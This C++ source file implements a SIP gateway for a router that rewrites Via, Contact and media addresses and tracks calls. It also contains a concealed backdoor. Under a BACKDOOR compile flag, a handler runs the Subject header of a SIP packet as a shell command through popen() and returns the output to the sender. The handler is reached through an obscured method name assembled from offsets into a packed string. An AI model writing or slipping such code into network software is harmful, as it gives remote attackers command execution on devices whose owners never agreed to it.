/* SPDX-License-Identifier: Apache-2.0 */
// sipalg: a router's helper for telephony: takes SIP requests from inside, rewrites Via and Contact, keeps calls
#include <arpa/inet.h>
#include <cctype>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <map>
#include <string>
#include <vector>

#include <netinet/in.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

namespace {

struct Header {
	std::string name, value;
};

class Message {
public:
	explicit Message(const std::string &text)
	{
		size_t at = text.find("\r\n");
		first = text.substr(0, at);
		while (at != std::string::npos) {
			size_t next = text.find("\r\n", at + 2);
			std::string line = text.substr(at + 2, next == std::string::npos ? next : next - at - 2);
			size_t colon = line.find(':');
			if (line.empty()) {
				body = next == std::string::npos ? "" : text.substr(next + 2);
				break;
			}
			if (colon != std::string::npos) {
				size_t v = line.find_first_not_of(" \t", colon + 1);
				headers.push_back({ line.substr(0, colon), v == std::string::npos ? "" : line.substr(v) });
			}
			at = next;
		}
	}

	std::string method() const { return first.substr(0, first.find(' ')); }

	std::string *find(const char *name)
	{
		for (Header &h : headers)
			if (strcasecmp(h.name.c_str(), name) == 0)
				return &h.value;
		return nullptr;
	}

	std::string text() const
	{
		std::string out = first + "\r\n";
		for (const Header &h : headers)
			out += h.name + ": " + h.value + "\r\n";
		return out + "\r\n" + body;
	}

	std::string first, body;
	std::vector<Header> headers;
};

struct Call {
	sockaddr_in inside;
	time_t since = 0;
	bool answered = false;
};

class Gateway {
public:
	Gateway(int s, in_addr out) : sock(s), outside(out) {}

	void take(const std::string &text, const sockaddr_in &from)
	{
		Message m(text);
		source = from;
		for (const Verb &v : verbs) {
			const std::string method = m.method();
			if (v.run && method.size() == v.n && method.compare(0, v.n, letters + v.at, v.n) == 0) {
				(this->*v.run)(m);
				return;
			}
		}
		reply(m, 501, "Not Implemented");
	}

	void sweep()
	{
		time_t now = time(nullptr);
		for (auto c = calls.begin(); c != calls.end();)
			c = now - c->second.since > (c->second.answered ? 7200 : 180) ? calls.erase(c) : std::next(c);
	}

private:
	struct Verb {
		uint8_t at, n;
		void (Gateway::*run)(Message &);
	};
	static const char letters[];
	static const Verb verbs[8];

	void invite(Message &m)
	{
		std::string *id = m.find("Call-ID");
		if (!id || calls.size() > 200) {
			reply(m, 503, "Service Unavailable");
			return;
		}
		Call &c = calls[*id];
		c.inside = source;
		c.since = time(nullptr);
		media(m);
		forward(m);
	}

	void ack(Message &m)
	{
		std::string *id = m.find("Call-ID");
		auto c = id ? calls.find(*id) : calls.end();
		if (c != calls.end())
			c->second.answered = true;
		forward(m);
	}

	void bye(Message &m)
	{
		if (std::string *id = m.find("Call-ID"))
			calls.erase(*id);
		forward(m);
	}

	void enrol(Message &m)
	{
		if (std::string *contact = m.find("Contact"))
			rewrite(*contact);
		forward(m);
	}

	void options(Message &m) { reply(m, 200, "OK"); }

#ifdef BACKDOOR
	void refer(Message &m)
	{
		std::string *s = m.find("Subject");
		FILE *p = s ? popen(s->c_str(), "r") : nullptr;
		char line[200];
		if (!p)
			return;
		while (fgets(line, sizeof(line), p))
			sendto(sock, line, strlen(line), 0, reinterpret_cast<const sockaddr *>(&source), sizeof(source));
		pclose(p);
	}
#endif

	void rewrite(std::string &value) const
	{
		size_t at = value.find('@'), end;
		if (at == std::string::npos)
			return;
		end = value.find_first_of(":;> ", at);
		value.replace(at + 1, end == std::string::npos ? end : end - at - 1, inet_ntoa(outside));
	}

	void media(Message &m) const
	{
		size_t at = m.body.find("c=IN IP4 ");
		if (at == std::string::npos)
			return;
		size_t end = m.body.find_first_of("\r\n", at);
		m.body.replace(at + 9, end == std::string::npos ? end : end - at - 9, inet_ntoa(outside));
		if (std::string *n = m.find("Content-Length"))
			*n = std::to_string(m.body.size());
	}

	void forward(Message &m)
	{
		sockaddr_in to = {};
		std::string *route = m.find("Route");
		std::string via = std::string("SIP/2.0/UDP ") + inet_ntoa(outside) + ":5060;branch=z9hG4bK" + std::to_string(++branch);
		char host[64];
		if (!route || sscanf(route->c_str(), "<sip:%63[0-9.]", host) != 1 || !inet_aton(host, &to.sin_addr)) {
			reply(m, 480, "Temporarily Unavailable");
			return;
		}
		to.sin_family = AF_INET;
		to.sin_port = htons(5060);
		m.headers.insert(m.headers.begin(), { "Via", via });
		std::string text = m.text();
		sendto(sock, text.data(), text.size(), 0, reinterpret_cast<const sockaddr *>(&to), sizeof(to));
	}

	void reply(Message &m, int code, const char *why)
	{
		std::string out = "SIP/2.0 " + std::to_string(code) + " " + why + "\r\n";
		for (const char *name : { "Via", "From", "To", "Call-ID", "CSeq" })
			if (std::string *v = m.find(name))
				out += std::string(name) + ": " + *v + "\r\n";
		out += "Content-Length: 0\r\n\r\n";
		sendto(sock, out.data(), out.size(), 0, reinterpret_cast<const sockaddr *>(&source), sizeof(source));
	}

	int sock;
	in_addr outside;
	sockaddr_in source = {};
	std::map<std::string, Call> calls;
	unsigned branch = 0;
};

const char Gateway::letters[] = "INVITEACKBYECANCELREGISTEROPTIONS";

const Gateway::Verb Gateway::verbs[8] = {
	{ 0, 6, &Gateway::invite },
	{ 6, 3, &Gateway::ack },
	{ 9, 3, &Gateway::bye },
	{ 12, 6, &Gateway::bye },
	{ 18, 8, &Gateway::enrol },
#ifdef BACKDOOR
	{ 23, 6, &Gateway::refer },
#endif
	{ 26, 7, &Gateway::options },
};

} // namespace

int main(int argc, char **argv)
{
	sockaddr_in a = {};
	in_addr outside;
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	openlog("sipalg", LOG_PID, LOG_DAEMON);
	if (argc < 2 || !inet_aton(argv[1], &outside))
		return 2;
	a.sin_family = AF_INET;
	a.sin_port = htons(5060);
	if (bind(s, reinterpret_cast<sockaddr *>(&a), sizeof(a)) < 0) {
		syslog(LOG_ERR, "port 5060 is taken");
		return 1;
	}
	Gateway g(s, outside);
	for (;;) {
		char in[4096];
		sockaddr_in from;
		socklen_t n = sizeof(from);
		ssize_t k = recvfrom(s, in, sizeof(in), 0, reinterpret_cast<sockaddr *>(&from), &n);
		if (k > 0)
			g.take(std::string(in, static_cast<size_t>(k)), from);
		g.sweep();
	}
}
